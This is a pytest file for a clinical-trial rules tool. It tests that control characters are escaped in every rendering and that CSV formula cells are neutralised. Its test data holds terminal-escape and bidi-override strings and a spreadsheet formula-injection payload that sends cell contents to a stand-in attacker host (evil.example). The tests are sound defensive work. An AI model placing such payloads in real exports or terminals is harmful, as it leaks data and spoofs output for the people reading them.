"""Issue 15, items 6 and 7: control characters never reach a terminal; CSV cells never run.

0.1.0 let ESC, CR, LF, the other C0/C1 controls and bidi overrides in labels,
ids, flag names, codes, code-set names and FHIR patient ids through to show,
explain, lint, diff and screen's summary (a criterion id with a newline forged
summary lines), and wrote a CSV cell such as ``=HYPERLINK(...)`` verbatim.
"""

from __future__ import annotations

import copy
import csv
import io
import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from helpers import AS_OF, AS_OF_TEXT
from trialrules import Flag, Protocol, Range, Record, TrialRulesError, diff
from trialrules.formats.fhir import read_fhir
from trialrules.formats.protocols import protocol_from_dict
from trialrules.tools.describe import describe_protocol
from trialrules.tools.lint import lint
from trialrules.values.text import UNSAFE, csv_cell, escape

HOSTILE = ["\x1b[2J", "\r", "\n", "\x07", "\x85", "\u202e", "\u2066", "\u2028", "\x00", "\x7f"]

BASE: dict[str, Any] = {
    "trialrules": 1, "id": "T-1", "title": "A trial",
    "inclusion": [{"kind": "range", "id": "inc.1", "source": {"kind": "latest", "code": "edss"},
                   "low": 3, "high": 6, "label": "EDSS 3-6"},
                  {"kind": "flag", "name": "consent"}],
    "exclusion": [{"kind": "lookback", "codes": {"name": "cancers", "prefixes": ["ICD10:C"]}}],
}

#: Where a name sits in a protocol document, as a function that plants ``bad`` there.
PLACES = {
    "protocol id": lambda d, bad: d.__setitem__("id", "T" + bad),
    "criterion id": lambda d, bad: d["inclusion"][0].__setitem__("id", "inc" + bad + "1"),
    "flag name": lambda d, bad: d["inclusion"][1].__setitem__("name", "consent" + bad),
    "observation code": lambda d, bad: d["inclusion"][0]["source"].__setitem__("code", "ed" + bad),
    "code-set name": lambda d, bad: d["exclusion"][0]["codes"].__setitem__("name", "can" + bad),
    "code": lambda d, bad: d["exclusion"][0]["codes"].__setitem__("prefixes", ["ICD10:C" + bad]),
}


@pytest.mark.parametrize("place", sorted(PLACES))
@pytest.mark.parametrize("bad", HOSTILE, ids=ascii)
def test_names_with_control_characters_are_refused_at_load(place: str, bad: str) -> None:
    document = copy.deepcopy(BASE)
    PLACES[place](document, bad)
    with pytest.raises(TrialRulesError):
        protocol_from_dict(document)


def _hostile_protocol(label: str) -> Protocol:
    """A protocol whose free text (labels, title) holds ``label``: text is allowed, so every
    rendering must escape it."""
    return Protocol("T-1", f"Title{label}", inclusion=[
        Range("edss", 3, 6, label=f"EDSS{label}"), Flag("consent", label=f"Consent{label}")])


@pytest.mark.parametrize("bad", HOSTILE, ids=ascii)
def test_every_text_rendering_escapes_control_characters(bad: str) -> None:
    protocol = _hostile_protocol(bad)
    other = _hostile_protocol(bad + "x")
    record = Record("P1")
    texts = {
        "show text": describe_protocol(protocol),
        "show markdown": describe_protocol(protocol, "markdown"),
        "explain": str(protocol.evaluate(record, AS_OF)),
        "lint": "\n".join(str(f) for f in lint(protocol)),
        "diff": str(diff(protocol, other)),
    }
    for name, text in texts.items():
        assert not UNSAFE.search(text.replace("\n", "")), name
        # (Markdown cells fold whitespace such as CR and LF into one space, which is safe too.)
        # (diff quotes prose with repr, which escapes too: '\r'.)
        shown = (escape(bad) in text or ascii(bad)[1:-1] in text
                 or (name == "show markdown" and bad.isspace()))
        assert shown or name == "lint", name
        # Line structure is the renderer's own: a label never starts a line of its own.
        assert not any(line.startswith(("x", "Consent", "EDSS")) for line in text.splitlines())


def test_fhir_patient_id_with_control_characters_is_one_bad_patient(tmp_path: Path) -> None:
    bundle = {"resourceType": "Bundle", "type": "collection", "entry": [
        {"resource": {"resourceType": "Patient", "id": "p\x1b]0;pwned\x07"}},
        {"resource": {"resourceType": "Patient", "id": "p2"}}]}
    path = tmp_path / "b.json"
    path.write_text(json.dumps(bundle))
    items = [item for _, item in read_fhir(path)]
    assert [type(i).__name__ for i in items] == ["LoadError", "Record"]
    assert not UNSAFE.search(str(items[0]))


def _screen(tmp_path: Path, lines: list[dict[str, Any]], *args: str) -> subprocess.CompletedProcess[str]:
    path = tmp_path / "p.jsonl"
    path.write_text("".join(json.dumps(line) + "\n" for line in lines), encoding="utf-8")
    return subprocess.run([sys.executable, "-m", "trialrules.cli", "screen", str(path),
                           "--as-of", AS_OF_TEXT, *args],
                          capture_output=True, text=True, encoding="utf-8", check=False,
                          timeout=120)


def test_screen_output_and_errors_hold_no_control_characters(tmp_path: Path) -> None:
    done = _screen(tmp_path, [{"id": "P1\u202e"}, {"id": "P2", "sex": "F\x1b[31m"}])
    assert done.returncode == 1  # the second line is bad
    assert not UNSAFE.search(done.stdout.replace("\n", "").replace("\t", ""))
    assert not UNSAFE.search(done.stderr.replace("\n", ""))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"], ids=ascii)
def test_csv_cells_that_start_a_formula_are_neutralised(tmp_path: Path, start: str) -> None:
    formula = f'{start}HYPERLINK("http://evil.example/?x="&A1,"click")'
    assert csv_cell(formula) == "'" + formula
    # A patient file cannot hold a tab or CR in an id; the other starts reach the CSV writer.
    if start in "\t\r":
        return
    done = _screen(tmp_path, [{"id": formula}, {"id": formula, "sex": "F"}], "--format", "csv")
    rows = list(csv.reader(io.StringIO(done.stdout)))
    assert [row[0] for row in rows[1:]] == ["'" + formula, "'" + formula]
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_ordinary_cells_are_unchanged() -> None:
    assert [csv_cell(t) for t in ("P1", "eligible", "", "a=b", "1-2")] == ["P1", "eligible", "",
                                                                          "a=b", "1-2"]
